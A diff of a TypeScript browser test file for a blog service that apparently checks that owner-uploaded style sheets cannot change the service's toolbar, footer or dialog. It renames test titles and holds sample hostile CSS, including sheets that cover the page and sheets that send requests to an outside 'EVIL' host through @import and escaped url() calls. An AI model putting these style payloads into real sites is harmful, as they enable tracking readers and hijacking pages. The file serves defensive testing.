@@ -80,7 +80,7 @@ const HOSTILE: Readonly<Record<string, string>> = {
     /* */ } .ServiceFooter { ${SEIZE} } @layer user { @scope (html) { .Toolbar { ${SEIZE} } } }
     .b\\} } } .Toolbar { ${SEIZE} }
     @media (} } .Toolbar { ${SEIZE} }) { .c { top: 0 } }`,
-  'lies over the page': `
+  'covers the page': `
     body { position: fixed !important; inset: -900px !important; margin: -900px; z-index: 2147483647;
       scale: 9; box-shadow: 0 0 0 9999px red; outline: 900px solid red; contain: none; isolation: auto;
       overflow: visible !important; width: 400vw; height: 5000px }
@@ -96,7 +96,7 @@ const HOSTILE: Readonly<Record<string, string>> = {
     @page { margin: 9in } @view-transition { navigation: auto }
     body { --S-ink: red; --S-surface: red; --S-accent: red; counter-reset: list-item 99; color-scheme: dark }
     @keyframes fade { to { opacity: 0 } }`,
-  'tells others what is read': `
+  'sends requests to other sites': `
     @import "${EVIL}"; @import url(${EVIL});
     a[href^="/"] { background: url(${EVIL}?a) } a { background: \\75rl(${EVIL}?b) }
     body { --far: url(${EVIL}?c); background: var(--far), image-set("${EVIL}?d" 1x) }
@@ -126,7 +126,7 @@ const openDialog = async ({ page }: Visitor, entryId: number): Promise<readonly 
 
 /** A busy server leaves the footer's panel to the browser, and does not cache such a page for long. */
 const openWhole = (reader: Visitor, url: string) =>
-  until('the server renders the whole footer', async () => {
+  until('the server renders the complete footer', async () => {
     await reader.open(url);
     return (await reader.page.$('.ServiceFooter template')) === null;
   });
@@ -146,7 +146,7 @@ const isOwn = ({ host, assets, platform }: Product, url: string) =>
   url.startsWith('data:') || [host, assets, platform].includes(new URL(url).origin);
 
 test(
-  'R7.3 no sheet changes anything outside of its blog',
+  'R7.3 a hostile owner style sheet changes nothing outside of its blog',
   journey(async ({ product, visitor }) => {
     const url = `${product.host}/${BLOG}/`;
     const reader = await visitor();
@@ -161,7 +161,7 @@ test(
     for (const [what, sheet] of Object.entries(HOSTILE)) {
       await saveOwnerCss(product, BLOG, AT_WORK + sheet);
       await openWhole(reader, url);
-      assert.equal(await outlineOf(page), 'rgb(1, 2, 3)', `the sheet that ${what} is at work`);
+      assert.equal(await outlineOf(page), 'rgb(1, 2, 3)', `the sheet that ${what} applies`);
       const seen = await looksOf(reader);
       assert.deepEqual(changesOf(expected.toolbar, seen.toolbar), [], what);
       assert.deepEqual(changesOf(expected.footer, seen.footer), [], what);
@@ -178,7 +178,7 @@ test(
 );
 
 test(
-  'R7.3 the service’s dialog looks the same over every sheet',
+  'R7.3 the service’s dialog looks the same over a hostile sheet',
   journey(async ({ product, visitor }) => {
     const { entryId, url } = await entryOf(product, BLOG, 0);
     const lookWith = async (css: string) => {
@@ -200,7 +200,7 @@ test(
 );
 
 test(
-  'R7.3 R3.8 the demo’s night train: linked last, sound, and with contrast',
+  'R7.3 R3.8 the night train’s style sheet is linked last, passes the page checks and has contrast',
   journey(async ({ product, visitor }) => {
     const url = `${product.host}/${NIGHT_TRAIN}/`;
     const html = await (await fetch(url)).text();
@@ -225,12 +225,12 @@ test(
     });
     assert.equal(faint, '[]');
     const elsewhere = await (await fetch(`${product.host}/${NIGHT_TRAIN}/none.html`)).text();
-    assert.equal(ownerCssUrlOf(elsewhere), null, 'an error page is the service’s');
+    assert.equal(ownerCssUrlOf(elsewhere), null, 'an error page has no owner style sheet');
   }),
 );
 
 test(
-  'with the sanitiser out of the way no script of an entry runs',
+  'scripts in unsanitised entry HTML do not run',
   journey(async ({ product, visitor }) => {
     const { url } = await entryOf(product, RAW_BLOG, 0);
     const { page, open } = await visitor();
